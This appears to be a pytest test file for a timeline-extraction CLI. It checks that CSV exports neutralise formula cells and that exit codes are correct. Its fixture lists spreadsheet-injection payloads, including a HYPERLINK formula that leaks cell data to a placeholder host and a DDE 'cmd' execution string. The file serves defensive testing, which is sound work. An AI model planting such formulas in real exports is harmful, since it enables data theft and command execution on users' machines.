"""Every CSV the project writes neutralises formula cells; exit codes say what happened."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from timeline import cli
from timeline.export import table_csv
from timeline.export.data import FORMULA_PREFIXES
from timeline.frames import events_frame
from timeline.ingest import load_bytes
from timeline.pipeline import extract_articles

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells(text: str) -> list[str]:
    return [c for c in _cells(text) if c.startswith(FORMULA_PREFIXES)]


@pytest.fixture
def hostile_corpus(tmp_path: Path) -> Path:
    lines = [f"{f} Abbas Araghchi arrived in Moscow on April {10 + i}." for i, f in
             enumerate(FORMULAS)]  # fmt: skip
    head = '---\ntitle: =HYPERLINK("http://x","y")\nsource: "@SUM(1+1)"\n---\n'
    (tmp_path / "a.txt").write_text(head + "\n".join(lines) + "\n", encoding="utf-8")
    return tmp_path / "a.txt"


def test_extract_csv_neutralises_formula_cells(
    hostile_corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = cli.main(["extract", "--format", "csv", "--published", "2025-04-29",
                     str(hostile_corpus)])  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0
    assert any(c.startswith("'=cmd|") for c in _cells(out))  # the sentence is kept, made inert
    assert _formula_cells(out) == []


def test_rejected_rows_csv_neutralises_formula_cells() -> None:
    from timeline.ui import rejected_csv

    records = "\n".join(f'{{"title": "{f!r}", "text": 7}}' for f in ("=1+1", "@x")) + "\n"
    records += '{"text": "", "title": "+1"}\n=cmd|x\n'
    _, issues = load_bytes("=evil.jsonl", records.encode(), published=None)
    assert len([i for i in issues if i.severity == "error"]) == 4
    out = rejected_csv(issues)
    assert any(c.startswith("'=evil.jsonl") for c in _cells(out))
    assert _formula_cells(out) == []


def test_export_csv_and_extract_csv_share_one_writer(
    hostile_corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    articles, _ = load_bytes("a.txt", hostile_corpus.read_bytes(), published=None)
    expected = table_csv(events_frame(extract_articles(articles).events)).text
    cli.main(["extract", "--format", "csv", str(hostile_corpus)])
    assert capsys.readouterr().out == expected


def test_an_unexpected_crash_exits_3_not_1(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("simulated bug")

    monkeypatch.setattr("timeline.pipeline.extract_articles", broken)
    (tmp_path / "a.txt").write_text("They met on Friday.", encoding="utf-8")
    code = cli.main(["extract", "--published", "2025-04-29", str(tmp_path / "a.txt")])
    err = capsys.readouterr().err
    assert code == cli.EXIT_CRASH == 3
    assert "internal error (RuntimeError): simulated bug" in err


def test_help_documents_the_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    for argv in (["--help"], ["ingest", "--help"], ["export", "--help"]):
        with pytest.raises(SystemExit):
            cli.main(argv)
        out = capsys.readouterr().out
        assert "exit codes:" in out
        assert "3  unexpected internal error" in out
